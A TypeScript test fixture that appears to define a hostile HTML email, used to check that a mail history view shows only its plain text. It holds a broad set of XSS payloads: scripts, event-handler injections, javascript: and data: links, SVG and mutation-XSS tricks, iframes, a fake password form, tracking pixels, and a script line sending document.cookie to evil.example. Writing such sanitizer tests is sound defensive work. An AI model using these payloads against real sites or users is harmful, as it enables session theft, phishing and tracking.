/** What a hostile sender tries. Shown in the history it must neither run nor load anything, only leave its plain text. */
export const HOSTILE_BODY = `<!doctype html>
<html>
<head>
<title>hostile title</title>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url("https://evil.example/import.css"); body { background: url("https://evil.example/bg.png") }</style>
<script src="https://evil.example/head.js"></script>
</head>
<body onload="document.title = 'run by onload'" background="https://evil.example/body.png">
<h1 onclick="alert('click')">You have won</h1>
<p style="color:#b91c1c;background-image:url(https://evil.example/css.png)">Red text stays red.</p>
<p style="position:fixed;top:0;left:0;width:100%;height:100%">An overlay becomes a paragraph.</p>
<script>document.body.dataset.run = 'script'; fetch('https://evil.example/steal?c=' + document.cookie)</script>
<img src="x" onerror="document.body.dataset.run = 'onerror'">
<img src="https://evil.example/pixel.gif" alt="tracking pixel">
<img src="//evil.example/relative.gif" alt="">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" alt="">
<svg onload="document.body.dataset.run = 'svg'"><script>document.body.dataset.run = 'svg script'</script><a xlink:href="javascript:alert(1)"><text>svg text</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></table></mtext></math>
<iframe src="https://evil.example/frame" srcdoc="<script>parent.document.body.dataset.run = 'frame'</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<video src="https://evil.example/video.mp4" autoplay></video><audio src="https://evil.example/audio.mp3" autoplay></audio>
<form action="https://evil.example/form" method="post"><label>Password <input name="password" type="password"></label><button>Sign in</button></form>
<a href="javascript:alert('link')">A link that would run</a>
<a href="data:text/html,<script>alert(1)</script>">A link to a page of its own</a>
<a href="https://evil.example/phish" target="_top">A link out of the frame</a>
<template><script>alert('template')</script></template>
<noscript><p title="</noscript><img src=x onerror=alert('mutation')>"></noscript>
<p>The end of the mail.</p>
</body>
</html>
`
